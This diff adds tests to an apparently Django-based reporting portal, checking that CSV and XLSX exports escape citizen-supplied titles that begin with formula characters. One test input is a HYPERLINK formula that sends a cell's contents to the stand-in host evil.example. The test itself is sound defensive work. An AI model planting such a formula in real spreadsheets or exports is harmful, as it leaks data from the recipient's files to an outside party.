@@ -98,3 +98,53 @@ def test_list_query_count(client, clock, commune_a, categories, province_officer
         response = client.get(reverse("reports-items"), {"period": "2026", "measure": "received"})
 
     assert response.content.decode().count("<tr><td>DB-26-") == rows
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_formula_in_a_title_exports_as_text(client, figures_world, officer_a, fmt):
+    # Given a citizen's title written as a spreadsheet formula, and others starting with + - @ and a tab
+    from feedback.models import Item
+
+    titles = {"i1": FORMULA, "i2": "+1+1", "i3": "@SUM(A1)", "i4": "\t=1+1"}
+    for key, title in titles.items():
+        Item.objects.filter(pk=figures_world[key].pk).update(title=title)
+    client.force_login(officer_a)
+
+    response = client.get(URL, {"period": "2026-H1", "measure": "received", "export": fmt})
+
+    if fmt == "csv":
+        cells = [c for row in rows_of(response) for c in row]
+        assert "'" + FORMULA in cells and FORMULA not in cells
+        assert {"'+1+1", "'@SUM(A1)", "'\t=1+1"} <= set(cells)
+    else:
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = [c for row in sheet.iter_rows() for c in row]
+        # No cell of the file is a formula; the title is text that shows the apostrophe-escaped formula.
+        assert all(c.data_type != "f" for c in cells)
+        assert "'" + FORMULA in [c.value for c in cells]
+
+
+def test_the_cell_rule_keeps_numbers_numbers():
+    from decimal import Decimal
+
+    from mttq_portal.spreadsheets import spreadsheet_cell
+
+    assert [spreadsheet_cell(v) for v in (-5, 3.5, Decimal("-1.5"), None, "-12", "+84912345678", "Đường")] == [
+        -5,
+        3.5,
+        Decimal("-1.5"),
+        None,
+        "-12",
+        "+84912345678",
+        "Đường",
+    ]
+    assert [spreadsheet_cell(v) for v in ("=1+1", "-1+1", "@x", "\rx", "+x")] == [
+        "'=1+1",
+        "'-1+1",
+        "'@x",
+        "'\rx",
+        "'+x",
+    ]
